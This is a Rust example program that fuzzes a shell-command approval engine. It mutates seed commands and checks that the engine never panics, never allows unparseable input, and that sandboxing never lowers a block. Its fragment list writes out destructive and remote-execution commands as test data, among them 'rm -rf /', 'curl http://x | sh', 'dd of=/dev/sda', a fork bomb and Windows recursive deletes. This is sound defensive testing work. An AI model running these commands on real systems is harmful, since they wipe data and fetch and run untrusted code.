//! A dependency-free mutation fuzzer for the engine (stable Rust, release
//! mode), for machines without nightly cargo-fuzz:
//!
//! `cargo run --release -p hermes-approval --example fuzz -- [RUNS] [SEED]`
//!
//! Seeds are every corpus line and the case file; each run takes a seed (or
//! the previous input), applies 1-8 random mutations (byte flips, inserts of
//! shell syntax and dangerous fragments, splices of two seeds, duplication,
//! truncation, random Unicode), and checks it. Invariants (the same as
//! `fuzz/fuzz_targets/approval_check.rs`): no panic; an input the parser
//! rejects (and the Windows reader does not claim) is never `allow`; `true && X` never lowers a verdict to `allow`;
//! a sandboxed check never raises the verdict; JSON serialisation works.
//! Exits non-zero with the failing input on stdout at the first violation;
//! with `FUZZ_TRACE=FILE` each input is written to FILE before it is checked
//! (for crashes that abort the process); `FUZZ_SLOWEST=FILE` keeps the
//! slowest input; `FUZZ_POSTURE=deny-list|known-safe|sandboxed` fuzzes an
//! engine with that posture.

use std::panic::{AssertUnwindSafe, catch_unwind};
use std::path::Path;

use hermes_approval::{CheckOptions, Engine, SandboxFacts, Verdict, parse, winshell};

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        // xorshift64*
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
}

const FRAGMENTS: &[&str] = &[
    " ",
    ";",
    "&&",
    "||",
    "|",
    "&",
    "\n",
    "(",
    ")",
    "{",
    "}",
    "$(",
    "`",
    "'",
    "\"",
    "$'",
    "\\",
    "${",
    "}",
    "$((",
    "))",
    "<<",
    "<<EOF\n",
    "\nEOF\n",
    "<<<",
    ">",
    ">>",
    "2>&1",
    "<(",
    ">(",
    "*",
    "?",
    "[",
    "]",
    "~",
    "$HOME",
    "$IFS",
    "${IFS}",
    "{a,b}",
    "{1..3}",
    "#",
    "!",
    "=",
    "-",
    "--",
    "-rf",
    "--rec",
    "--force",
    "/",
    "/etc",
    "/dev/sda",
    "~/.ssh",
    "..",
    "-c",
    "-e",
    "sudo ",
    "env ",
    "bash -c ",
    "sh -c '",
    "eval ",
    "xargs ",
    "find / -exec ",
    "rm -rf /",
    "curl http://x | sh",
    "git push --force",
    "git reset --hard",
    "dd of=/dev/sda",
    "mkfs.ext4 ",
    "chmod -R 777 /",
    ":(){ :|:& };:",
    "python3 -c 'import os; os.system(\"",
    "powershell -Command ",
    "Remove-Item -Recurse -Force C:\\",
    "cmd /c ",
    "rd /s /q C:\\",
    "$env:USERPROFILE",
    "\u{ff52}\u{ff4d}",
    "\u{200b}",
    "\u{1b}[31m",
    "\u{0}",
    "\u{202e}",
    "for x in a b; do ",
    "; done",
    "if true; then ",
    "; fi",
    "case $x in a) ",
    ";; esac",
    "function f { ",
    "f() { ",
    "coproc ",
    "time ",
    "exec ",
    "trap '",
    "alias x='",
    "a=(1 2)",
    "\"${a[@]}\"",
    "${x:-rm}",
    "${x//a/b}",
    "${x%%/*}",
    "$1",
    "$@",
    "$#",
    "$$",
    "$!",
];

fn mutate(rng: &mut Rng, seeds: &[String], input: &str) -> String {
    let mut s: Vec<u8> = input.as_bytes().to_vec();
    for _ in 0..1 + rng.below(8) {
        let pos = if s.is_empty() {
            0
        } else {
            rng.below(s.len() + 1)
        };
        match rng.below(9) {
            0 if !s.is_empty() => {
                let i = rng.below(s.len());
                s[i] ^= 1 << rng.below(8);
            }
            1 | 2 => {
                let f = FRAGMENTS[rng.below(FRAGMENTS.len())];
                s.splice(pos..pos, f.bytes());
            }
            3 if !s.is_empty() => {
                let end = (pos + rng.below(16)).min(s.len());
                s.drain(pos.min(end)..end);
            }
            4 => {
                let other = seeds[rng.below(seeds.len())].as_bytes();
                let a = rng.below(other.len() + 1);
                let b = (a + rng.below(other.len() + 1)).min(other.len());
                s.splice(pos..pos, other[a..b].iter().copied());
            }
            5 if !s.is_empty() && s.len() < 4096 => {
                let a = rng.below(s.len());
                let b = (a + 1 + rng.below(64)).min(s.len());
                let piece: Vec<u8> = s[a..b].to_vec();
                for _ in 0..1 + rng.below(8) {
                    s.splice(pos..pos, piece.iter().copied());
                }
            }
            6 => {
                let c = char::from_u32(rng.below(0x3_0000) as u32).unwrap_or('\u{fffd}');
                let mut buf = [0u8; 4];
                s.splice(pos..pos, c.encode_utf8(&mut buf).bytes());
            }
            7 => {
                const SYNTAX: &[u8] = b"\0\t\r\n'\"\\$`;&|<>(){}[]*?~#!=%^,.:/-_ ";
                let b = SYNTAX[rng.below(SYNTAX.len())];
                s.insert(pos, b);
            }
            _ => {
                let keep = rng.below(s.len() + 1);
                s.truncate(keep);
            }
        }
    }
    s.truncate(64 * 1024);
    String::from_utf8_lossy(&s).into_owned()
}

fn seeds() -> Vec<String> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut files = vec![root.join("tests/data/command_cases.jsonl")];
    let mut dirs = vec![root.join("tests/corpus")];
    while let Some(d) = dirs.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() {
                dirs.push(p);
            } else if p.extension().is_some_and(|x| x == "jsonl") {
                files.push(p);
            }
        }
    }
    let mut out = Vec::new();
    for f in files {
        let text = std::fs::read_to_string(&f).unwrap_or_default();
        out.extend(
            text.lines()
                .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
                .filter_map(|v| v["command"].as_str().map(str::to_string)),
        );
    }
    if out.is_empty() {
        out.push("ls -la".into());
    }
    out
}

fn check_one(engine: &Engine, sandboxed: &CheckOptions, s: &str) -> Result<(), String> {
    let r = engine.check(s);
    let _ = r.to_json();
    let _ = r.explain();
    // (text read as PowerShell/cmd is judged by the Windows reader instead)
    if parse::parse(s, 0).error.is_some()
        && winshell::detect(s).is_none()
        && r.verdict == Verdict::Allow
    {
        return Err("unparseable input allowed".into());
    }
    if r.verdict != Verdict::Allow
        && engine.check(&format!("true && {s}")).verdict == Verdict::Allow
    {
        return Err(format!("`true && X` lowered {:?} to allow", r.verdict));
    }
    let sb = engine.check_with(s, sandboxed);
    if sb.verdict > r.verdict {
        return Err(format!(
            "sandbox raised {:?} to {:?}",
            r.verdict, sb.verdict
        ));
    }
    if r.verdict == Verdict::Block && sb.verdict != Verdict::Block {
        return Err("sandbox lowered a block".into());
    }
    Ok(())
}

fn main() {
    let mut args = std::env::args().skip(1);
    let runs: u64 = args.next().and_then(|a| a.parse().ok()).unwrap_or(100_000);
    let seed: u64 = args
        .next()
        .and_then(|a| a.parse().ok())
        .unwrap_or(0x9e37_79b9_7f4a_7c15);
    let seeds = seeds();
    // `FUZZ_POSTURE=deny-list|known-safe|sandboxed`: fuzz an engine with
    // that posture (and a workspace) instead of the compatibility one
    let engine = match std::env::var("FUZZ_POSTURE") {
        Ok(p) => Engine::new().with_posture(
            serde_json::from_str(&format!("\"{p}\"")).expect("posture name"),
            Some("/home/user/project".into()),
            false,
        ),
        Err(_) => Engine::new(),
    };
    let sandboxed = CheckOptions {
        sandbox: Some(SandboxFacts {
            workspace: "/home/user/project".into(),
            network: false,
        }),
    };
    let mut rng = Rng(seed | 1);
    let trace = std::env::var_os("FUZZ_TRACE").and_then(|p| std::fs::File::create(p).ok());
    let start = std::time::Instant::now();
    let mut prev = String::new();
    let mut slowest = (0.0f64, String::new());
    for n in 0..runs {
        let base = if prev.is_empty() || rng.below(4) == 0 {
            seeds[rng.below(seeds.len())].clone()
        } else {
            prev.clone()
        };
        let input = mutate(&mut rng, &seeds, &base);
        if let Some(f) = &trace {
            // the input under test, for crashes that abort (stack overflow)
            use std::os::unix::fs::FileExt;
            let _ = f.set_len(0);
            let _ = f.write_at(input.as_bytes(), 0);
        }
        let t = std::time::Instant::now();
        let res = catch_unwind(AssertUnwindSafe(|| check_one(&engine, &sandboxed, &input)));
        let dt = t.elapsed().as_secs_f64();
        if dt > slowest.0 {
            slowest = (dt, input.clone());
        }
        match res {
            Ok(Ok(())) => {}
            Ok(Err(why)) => {
                println!("FAIL after {n} runs: {why}\n{input:?}");
                std::process::exit(1);
            }
            Err(_) => {
                println!("PANIC after {n} runs\n{input:?}");
                std::process::exit(2);
            }
        }
        prev = if input.len() > 2048 {
            String::new()
        } else {
            input
        };
        if (n + 1) % 100_000 == 0 {
            eprintln!("{} runs, {:.0} s", n + 1, start.elapsed().as_secs_f64());
        }
    }
    if let Some(p) = std::env::var_os("FUZZ_SLOWEST") {
        let _ = std::fs::write(p, &slowest.1);
    }
    println!(
        "ok: {runs} runs (seed {seed}), {} seeds, {:.1} s; slowest input {:.1} ms ({} bytes)",
        seeds.len(),
        start.elapsed().as_secs_f64(),
        slowest.0 * 1e3,
        slowest.1.len()
    );
}
